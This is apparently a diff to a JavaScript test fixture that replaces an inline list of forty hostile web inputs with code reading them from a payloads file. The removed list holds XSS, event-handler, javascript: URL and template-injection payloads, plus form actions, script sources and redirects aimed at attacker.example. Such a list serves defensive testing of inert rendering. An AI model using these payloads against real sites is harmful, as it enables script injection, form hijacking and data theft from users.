@@ -1,46 +1,9 @@
-// Forty texts that want to be more than text (W02). Each would say `ran` to the page, open a dialog, or change what is around it.
+// Forty texts that want to be more than text (W02). Each would say `ran` to the page, open a dialog, or change what is around it. They are
+// what a hostile guest says too, which reads them from the same file.
 
-const RUN = "window.ran=1";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
 
-export const payloads = [
-  `<script>${RUN}</script>`,
-  `"><script>${RUN}</script>`,
-  `'><script>${RUN}</script>`,
-  `</title><script>${RUN}</script>`,
-  `</textarea><script>${RUN}</script>`,
-  `</style><script>${RUN}</script>`,
-  `</option></select><script>${RUN}</script>`,
-  `--><script>${RUN}</script>`,
-  `]]><script>${RUN}</script>`,
-  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<ScRiPt/x>${RUN}</sCrIpT>`,
-  `<script src="https://attacker.example/x.js"></script>`,
-  `<script type="module">${RUN}</script>`,
-  `<img src=x onerror=${RUN}>`,
-  `" onerror="${RUN}`,
-  `' onmouseover='${RUN}`,
-  `" autofocus onfocus="${RUN}`,
-  `x onclick=${RUN} y`,
-  `<svg onload=${RUN}>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
-  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
-  `<iframe src="javascript:parent.ran=1"></iframe>`,
-  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
-  `<object data="javascript:${RUN}"></object>`,
-  `<embed src="javascript:${RUN}">`,
-  `<a href="javascript:${RUN}">here</a>`,
-  `javascript:${RUN}//`,
-  `<form action="https://attacker.example/"><input name=csrf><button>Turn off</button></form>`,
-  `<button formaction="https://attacker.example/">Turn off</button>`,
-  `<base href="https://attacker.example/">`,
-  `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
-  `<link rel=stylesheet href="https://attacker.example/x.css">`,
-  `<style>body{display:none}</style>`,
-  `<details open ontoggle=${RUN}>`,
-  `<video><source onerror=${RUN}></video>`,
-  `<template><script>${RUN}</script></template>`,
-  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= 1 %>`,
-  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62;`,
-  "\u202egnp.exe\u2066 \ufeff\u200b<b>bold</b>",
-];
+import { root } from "./files.js";
+
+export const payloads = readFileSync(join(root, "tests/hostile/payloads.txt"), "utf8").split("\n").slice(0, -1);
